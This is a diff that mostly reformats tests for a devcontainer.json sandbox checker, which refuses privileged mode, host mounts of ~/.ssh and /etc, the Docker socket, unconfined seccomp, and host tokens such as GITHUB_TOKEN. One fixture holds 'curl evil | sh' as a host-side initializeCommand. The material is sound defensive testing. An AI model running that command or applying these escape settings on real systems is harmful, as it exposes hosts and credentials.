@@ -50,30 +50,46 @@ describe('sandbox devcontainer.json check', () => {
   describe('refusals', () => {
     it('refuses privileged, in the property and in runArgs, with the reason', () => {
       const check = checked({ image: 'x', privileged: true, runArgs: ['--privileged'] });
-      assert.deepEqual(check.refusals.map((r) => r.where), ['privileged', 'runArgs: --privileged']);
+      assert.deepEqual(
+        check.refusals.map((r) => r.where),
+        ['privileged', 'runArgs: --privileged'],
+      );
       assert.match(check.refusals[0]!.reason, /every capability/);
       assert.equal(check.refusals[0]!.allowedBy, 'allowPrivileged');
       assert.match(describeRefusals(check), /policy can allow it with allowPrivileged/);
     });
 
     it('refuses the host network in both spellings', () => {
-      assert.deepEqual(refusedWhere({ image: 'x', runArgs: ['--network=host', '--net', 'host'] }), ['runArgs: --network=host', 'runArgs: --net host']);
+      assert.deepEqual(refusedWhere({ image: 'x', runArgs: ['--network=host', '--net', 'host'] }), [
+        'runArgs: --network=host',
+        'runArgs: --net host',
+      ]);
     });
 
     it('refuses host pid, ipc, uts, cgroup and user namespaces', () => {
-      const where = refusedWhere({ image: 'x', runArgs: ['--pid=host', '--ipc', 'host', '--uts=host', '--cgroupns=host', '--userns=host', '--pid=container:db'] });
+      const where = refusedWhere({
+        image: 'x',
+        runArgs: ['--pid=host', '--ipc', 'host', '--uts=host', '--cgroupns=host', '--userns=host', '--pid=container:db'],
+      });
       assert.equal(where.length, 6);
     });
 
     it('refuses added capabilities, one by one', () => {
       const check = checked({ image: 'x', capAdd: ['SYS_PTRACE', 'CAP_NET_ADMIN'], runArgs: ['--cap-add=SYS_ADMIN'] });
-      assert.deepEqual(check.refusals.map((r) => r.reason), ['adds the Linux capability SYS_PTRACE', 'adds the Linux capability NET_ADMIN', 'adds the Linux capability SYS_ADMIN']);
+      assert.deepEqual(
+        check.refusals.map((r) => r.reason),
+        ['adds the Linux capability SYS_PTRACE', 'adds the Linux capability NET_ADMIN', 'adds the Linux capability SYS_ADMIN'],
+      );
     });
 
     it('refuses extra host mounts in every form', () => {
       const where = refusedWhere({
         image: 'x',
-        mounts: ['source=/home/me/.ssh,target=/root/.ssh,type=bind', { source: '/etc', target: '/host-etc', type: 'bind' }, 'source=shared-cache,target=/cache,type=volume'],
+        mounts: [
+          'source=/home/me/.ssh,target=/root/.ssh,type=bind',
+          { source: '/etc', target: '/host-etc', type: 'bind' },
+          'source=shared-cache,target=/cache,type=volume',
+        ],
         runArgs: ['-v', '/:/host', '--volume=/srv:/srv:ro', '--mount', 'type=bind,src=/opt,dst=/opt', '-v/tmp:/tmp'],
       });
       assert.deepEqual(where, [
@@ -89,7 +105,11 @@ describe('sandbox devcontainer.json check', () => {
 
     it('names the docker socket as the engine socket, and a glob in allowMounts does not reach it', () => {
       const check = checked(
-        { image: 'x', mounts: ['source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind'], runArgs: ['-v', '/run/podman/podman.sock:/run/docker.sock'] },
+        {
+          image: 'x',
+          mounts: ['source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind'],
+          runArgs: ['-v', '/run/podman/podman.sock:/run/docker.sock'],
+        },
         { allowMounts: ['/**'] },
       );
       assert.equal(check.refusals.length, 2);
@@ -109,7 +129,10 @@ describe('sandbox devcontainer.json check', () => {
 
     it('refuses initializeCommand, which runs on the host', () => {
       const check = checked({ image: 'x', initializeCommand: 'curl evil | sh' });
-      assert.deepEqual(check.refusals.map((r) => [r.where, r.allowedBy]), [['initializeCommand', 'allowInitializeCommand']]);
+      assert.deepEqual(
+        check.refusals.map((r) => [r.where, r.allowedBy]),
+        [['initializeCommand', 'allowInitializeCommand']],
+      );
     });
 
     it('refuses security options, devices, GPUs, published ports and host files', () => {
@@ -117,7 +140,19 @@ describe('sandbox devcontainer.json check', () => {
         image: 'x',
         securityOpt: ['seccomp=unconfined'],
         hostRequirements: { gpu: 'optional' },
-        runArgs: ['--security-opt', 'apparmor=unconfined', '--device=/dev/kvm', '--gpus', 'all', '-p', '8080:80', '--env-file', '/home/me/.env', '--name', 'fixed'],
+        runArgs: [
+          '--security-opt',
+          'apparmor=unconfined',
+          '--device=/dev/kvm',
+          '--gpus',
+          'all',
+          '-p',
+          '8080:80',
+          '--env-file',
+          '/home/me/.env',
+          '--name',
+          'fixed',
+        ],
       });
       assert.deepEqual(where, [
         'securityOpt[0]: seccomp=unconfined',
@@ -139,8 +174,15 @@ describe('sandbox devcontainer.json check', () => {
     });
 
     it('refuses reading host environment variables into the container', () => {
-      const check = checked({ image: 'x', containerEnv: { TOKEN: '${localEnv:GITHUB_TOKEN}' }, customizations: { vscode: { settings: { a: '${localEnv:HOME}' } } } });
-      assert.deepEqual(check.refusals.map((r) => r.where), ['containerEnv.TOKEN']);
+      const check = checked({
+        image: 'x',
+        containerEnv: { TOKEN: '${localEnv:GITHUB_TOKEN}' },
+        customizations: { vscode: { settings: { a: '${localEnv:HOME}' } } },
+      });
+      assert.deepEqual(
+        check.refusals.map((r) => r.where),
+        ['containerEnv.TOKEN'],
+      );
       assert.match(check.refusals[0]!.reason, /GITHUB_TOKEN/);
     });
 
@@ -149,11 +191,12 @@ describe('sandbox devcontainer.json check', () => {
     });
 
     it('refuses build options that hand host secrets or the host network to the build', () => {
-      assert.deepEqual(refusedWhere({ build: { dockerfile: 'Dockerfile', options: ['--secret', 'id=npm,src=/home/me/.npmrc', '--network=host', '--build-arg', 'A=1'] } }), [
-        'build.options: --secret',
-        'build.options: id=npm,src=/home/me/.npmrc',
-        'build.options: --network=host',
-      ]);
+      assert.deepEqual(
+        refusedWhere({
+          build: { dockerfile: 'Dockerfile', options: ['--secret', 'id=npm,src=/home/me/.npmrc', '--network=host', '--build-arg', 'A=1'] },
+        }),
+        ['build.options: --secret', 'build.options: id=npm,src=/home/me/.npmrc', 'build.options: --network=host'],
+      );
     });
   });
 
@@ -168,16 +211,31 @@ describe('sandbox devcontainer.json check', () => {
           initializeCommand: 'echo hi',
           runArgs: ['--network=host', '--cap-add', 'NET_ADMIN'],
         },
-        { allowPrivileged: true, allowCapAdd: ['CAP_SYS_PTRACE'], allowMounts: ['/opt/**'], allowInitializeCommand: true, allowHostNetwork: true },
+        {
+          allowPrivileged: true,
+          allowCapAdd: ['CAP_SYS_PTRACE'],
+          allowMounts: ['/opt/**'],
+          allowInitializeCommand: true,
+          allowHostNetwork: true,
+        },
       );
-      assert.deepEqual(check.refusals.map((r) => r.where), ['runArgs: --cap-add NET_ADMIN']);
-      assert.deepEqual(check.allowed.map((r) => r.where), ['initializeCommand', 'privileged', 'capAdd[0]', 'mounts[0]', 'runArgs: --network=host']);
+      assert.deepEqual(
+        check.refusals.map((r) => r.where),
+        ['runArgs: --cap-add NET_ADMIN'],
+      );
+      assert.deepEqual(
+        check.allowed.map((r) => r.where),
+        ['initializeCommand', 'privileged', 'capAdd[0]', 'mounts[0]', 'runArgs: --network=host'],
+      );
       assert.equal(check.hostNetwork, true);
       assert.deepEqual(check.mounts, [{ where: 'mounts[0]', type: 'bind', source: '/opt/cache', target: '/cache', readonly: true }]);
     });
 
     it('allows the docker socket only when listed exactly', () => {
-      const check = checked({ image: 'x', mounts: ['source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind'] }, { allowMounts: ['/var/run/docker.sock'] });
+      const check = checked(
+        { image: 'x', mounts: ['source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind'] },
+        { allowMounts: ['/var/run/docker.sock'] },
+      );
       assert.deepEqual(check.refusals, []);
       assert.equal(check.allowed.length, 1);
     });
@@ -185,7 +243,10 @@ describe('sandbox devcontainer.json check', () => {
 
   describe('what the sandbox takes over', () => {
     it('keeps safe run flags, drops network none and takes the smaller limits', () => {
-      const check = checked({ image: 'x', runArgs: ['--init', '-e', 'A=1', '--network=none', '--cpus=4', '--memory', '512m', '--pids-limit=100', '--network=bridge'] });
+      const check = checked({
+        image: 'x',
+        runArgs: ['--init', '-e', 'A=1', '--network=none', '--cpus=4', '--memory', '512m', '--pids-limit=100', '--network=bridge'],
+      });
       assert.deepEqual(check.refusals, []);
       assert.deepEqual(check.runArgs, ['--init', '-e', 'A=1']);
       assert.deepEqual(check.limits, { cpus: 4, memoryBytes: 512 * 1024 * 1024, pids: 100 });
@@ -197,7 +258,16 @@ describe('sandbox devcontainer.json check', () => {
         limits: { cpus: 2, memoryMb: 1024, pids: 512 },
         labels: { 'dev.agentlanes.change': 'ab12cd34' },
       });
-      assert.deepEqual(sandbox.config.runArgs, ['--init', '-e', 'A=1', '--network=none', '--cpus=2', `--memory=${512 * 1024 * 1024}b`, '--pids-limit=100', '--label=dev.agentlanes.change=ab12cd34']);
+      assert.deepEqual(sandbox.config.runArgs, [
+        '--init',
+        '-e',
+        'A=1',
+        '--network=none',
+        '--cpus=2',
+        `--memory=${512 * 1024 * 1024}b`,
+        '--pids-limit=100',
+        '--label=dev.agentlanes.change=ab12cd34',
+      ]);
       assert.equal(sandbox.config.workspaceMount, 'type=bind,source=/data/worktrees/ab12cd34,target=/workspaces/ab12cd34');
       assert.equal(sandbox.config.image, 'x');
     });
@@ -207,19 +277,52 @@ describe('sandbox devcontainer.json check', () => {
     });
 
     it('generates a configuration around the default image when the repository has none', () => {
-      const sandbox = buildSandboxConfig(undefined, { worktreePath: '/w/t', defaultImage: 'localhost/img:1', creationNetwork: 'bridge', limits: {}, labels: {} });
-      assert.deepEqual(sandbox.config, { image: 'localhost/img:1', updateRemoteUserUID: false, workspaceMount: 'type=bind,source=/w/t,target=/workspaces/t', workspaceFolder: '/workspaces/t', runArgs: [] });
+      const sandbox = buildSandboxConfig(undefined, {
+        worktreePath: '/w/t',
+        defaultImage: 'localhost/img:1',
+        creationNetwork: 'bridge',
+        limits: {},
+        labels: {},
+      });
+      assert.deepEqual(sandbox.config, {
+        image: 'localhost/img:1',
+        updateRemoteUserUID: false,
+        workspaceMount: 'type=bind,source=/w/t,target=/workspaces/t',
+        workspaceFolder: '/workspaces/t',
+        runArgs: [],
+      });
     });
 
     it('points a build at the base Dockerfile and builds with the preparation network', () => {
       const check = checked({ build: { dockerfile: 'Dockerfile', context: '..', options: ['--network=bridge', '--pull'] } });
-      const sandbox = buildSandboxConfig(check, { worktreePath: '/w/t', defaultImage: 'x', creationNetwork: 'none', limits: {}, labels: {}, dockerfilePath: '/private/Dockerfile', buildContext: '/w/t' });
+      const sandbox = buildSandboxConfig(check, {
+        worktreePath: '/w/t',
+        defaultImage: 'x',
+        creationNetwork: 'none',
+        limits: {},
+        labels: {},
+        dockerfilePath: '/private/Dockerfile',
+        buildContext: '/w/t',
+      });
       assert.deepEqual(sandbox.config.build, { dockerfile: '/private/Dockerfile', context: '/w/t', options: ['--pull', '--network=none'] });
     });
 
     it('refuses to build a configuration that still has refusals, or a worktree path a mount cannot name', () => {
-      assert.throws(() => buildSandboxConfig(checked({ image: 'x', privileged: true }), { worktreePath: '/w', defaultImage: 'x', creationNetwork: 'none', limits: {}, labels: {} }), /without refusals/);
-      assert.throws(() => buildSandboxConfig(undefined, { worktreePath: '/w/a,b', defaultImage: 'x', creationNetwork: 'none', limits: {}, labels: {} }), /contains a comma/);
+      assert.throws(
+        () =>
+          buildSandboxConfig(checked({ image: 'x', privileged: true }), {
+            worktreePath: '/w',
+            defaultImage: 'x',
+            creationNetwork: 'none',
+            limits: {},
+            labels: {},
+          }),
+        /without refusals/,
+      );
+      assert.throws(
+        () => buildSandboxConfig(undefined, { worktreePath: '/w/a,b', defaultImage: 'x', creationNetwork: 'none', limits: {}, labels: {} }),
+        /contains a comma/,
+      );
     });
   });
 
@@ -236,7 +339,12 @@ describe('sandbox devcontainer.json check', () => {
       assert.deepEqual(parseMountSpec('/a:/b:ro', true), { type: 'bind', source: '/a', target: '/b', readonly: true });
       assert.deepEqual(parseMountSpec('cache:/c', true), { type: 'volume', source: 'cache', target: '/c', readonly: false });
       assert.deepEqual(parseMountSpec('/anon', true), { type: 'volume', source: '', target: '/anon', readonly: false });
-      assert.deepEqual(parseMountSpec('type=bind,source=/a,target=/b,readonly', false), { type: 'bind', source: '/a', target: '/b', readonly: true });
+      assert.deepEqual(parseMountSpec('type=bind,source=/a,target=/b,readonly', false), {
+        type: 'bind',
+        source: '/a',
+        target: '/b',
+        readonly: true,
+      });
     });
 
     it('lets anonymous volumes and tmpfs through', () => {
